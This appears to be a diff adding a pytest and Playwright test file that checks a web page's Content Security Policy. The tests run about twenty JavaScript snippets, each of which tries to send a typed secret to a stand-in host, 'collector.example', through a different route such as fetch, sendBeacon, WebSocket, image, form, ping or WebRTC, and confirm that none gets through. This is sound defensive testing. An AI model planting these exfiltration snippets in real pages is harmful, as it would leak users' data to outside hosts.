@@ -1,0 +1,148 @@
+"""A figure typed into the page goes nowhere: no request is made, and each known way of sending it is tried.
+
+The listener counts whatever arrives: every name resolves to it, so that a request to anywhere is seen.
+"""
+
+from __future__ import annotations
+
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page, sync_playwright
+
+from web.conftest import CHROMIUM
+from web.web_help import address
+
+pytestmark = [pytest.mark.slow, pytest.mark.web]
+SECRET = "48151.62342"
+WAYS = {
+    "fetch": "fetch(U).catch(() => {})",
+    "XMLHttpRequest": "try { const x = new XMLHttpRequest(); x.open('POST', U); x.send(V); } catch (e) {}",
+    "sendBeacon": "try { navigator.sendBeacon(U, V); } catch (e) {}",
+    "WebSocket": "try { new WebSocket(U.replace('http', 'ws')); } catch (e) {}",
+    "EventSource": "try { new EventSource(U); } catch (e) {}",
+    "image": "new Image().src = U",
+    "script": "const s = document.createElement('script'); s.src = U; document.head.append(s)",
+    "style-sheet": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: U}))",
+    "background": "document.body.style.backgroundImage = `url(${U})`",
+    "font": "new FontFace('f', `url(${U})`).load().catch(() => {})",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: U}))",
+    "form": "const f = document.createElement('form'); f.action = U; document.body.append(f); f.submit()",
+    "media": "document.body.append(Object.assign(document.createElement('video'), {src: U, preload: 'auto'}))",
+    "object": "document.body.append(Object.assign(document.createElement('object'), {data: U}))",
+    "worker": "try { new Worker(URL.createObjectURL(new Blob([`fetch('${U}')`]))); } catch (e) {}",
+    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: U}))",
+    "ping": "const p = document.createElement('a'); p.href = '#x'; p.ping = U; document.body.append(p); p.click()",
+    "navigation": "location.href = U",
+    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${U}`;"
+    " document.head.append(m)",
+    "new-window": "try { window.open(U); } catch (e) {}",
+    "peer-connection": "try { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + U.slice(7, -12)}]});"
+    " c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)); } catch (e) {}",
+}
+
+
+class Listener:
+    """Counts connections over TCP and packets over UDP on one port."""
+
+    def __init__(self) -> None:
+        self.arrived: list[str] = []
+        self.tcp, self.udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.port = self.tcp.getsockname()[1]
+        self.udp.bind(("127.0.0.1", self.port))
+        for listen in (self._connections, self._packets):
+            threading.Thread(target=listen, daemon=True).start()
+
+    def _connections(self) -> None:
+        while True:
+            try:
+                connection, _ = self.tcp.accept()
+                connection.settimeout(1)
+                self.arrived.append(connection.recv(4096).decode("latin-1").split("\r\n")[0])
+                connection.close()
+            except TimeoutError:
+                self.arrived.append("silent connection")
+            except OSError:
+                return
+
+    def _packets(self) -> None:
+        while True:
+            try:
+                self.arrived.append(f"{len(self.udp.recv(4096))} bytes")
+            except OSError:
+                return
+
+    def close(self) -> None:
+        self.tcp.close()
+        self.udp.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    found = Listener()
+    yield found
+    found.close()
+
+
+def attempts(page_address: str, listener: Listener, script: str) -> tuple[list[str], list[str]]:
+    """Type the secret, run a script in the page, and give what arrived and what the browser asked for."""
+    rules = [f"--host-resolver-rules=MAP * 127.0.0.1:{listener.port}", "--no-sandbox"]
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=rules)
+        page = browser.new_page()
+        page.goto(page_address)
+        asked: list[str] = []
+        page.context.on("request", lambda request: asked.append(request.url))
+        type_secret(page)
+        if script:
+            target = f"http://collector.example:{listener.port}/{SECRET}"
+            page.evaluate(f"() => {{ const U = '{target}', V = '{SECRET}'; {script} }}")
+        page.wait_for_timeout(500)
+        browser.close()
+    return listener.arrived, [url for url in asked if not url.startswith(("blob:", "data:"))]
+
+
+def type_secret(page: Page) -> None:
+    if page.locator("#stand-figure").count():
+        page.fill("#stand-figure", SECRET)
+
+
+def test_typing_a_figure_makes_no_request(site, listener):
+    assert attempts(address(site, "index.html"), listener, "") == ([], [])
+
+
+@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
+def test_a_way_of_sending_the_figure_away_is_shut(site, listener, script):
+    arrived, _ = attempts(address(site, "index.html"), listener, script)
+    assert arrived == []
+
+
+def test_the_listener_hears_the_same_ways_on_a_page_without_policy_and_script(tmp_path: Path, listener):
+    (tmp_path / "open.html").write_text("<!DOCTYPE html><title>open</title><input id='stand-figure'>", "utf-8")
+    heard = {}
+    for name, script in WAYS.items():
+        before = len(listener.arrived)
+        attempts((tmp_path / "open.html").as_uri(), listener, script)
+        heard[name] = len(listener.arrived) > before
+    assert [name for name, is_heard in heard.items() if not is_heard] == []
+
+
+def test_the_policy_names_only_the_style_and_script_in_the_page(site):
+    for path in site.rglob("*.html"):
+        text = path.read_text("utf-8")
+        assert "default-src 'none'" in text and "connect-src 'none'" in text and "form-action 'none'" in text
+        assert "unsafe" not in text.split("</head>")[0].split("<style>")[0]
+        assert ' style="' not in text and " onclick=" not in text
+
+
+def test_the_typed_figure_is_kept_nowhere(site, browser):
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(address(site, "index.html"))
+    type_secret(page)
+    kept = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href])")
+    context.close()
+    assert SECRET not in kept
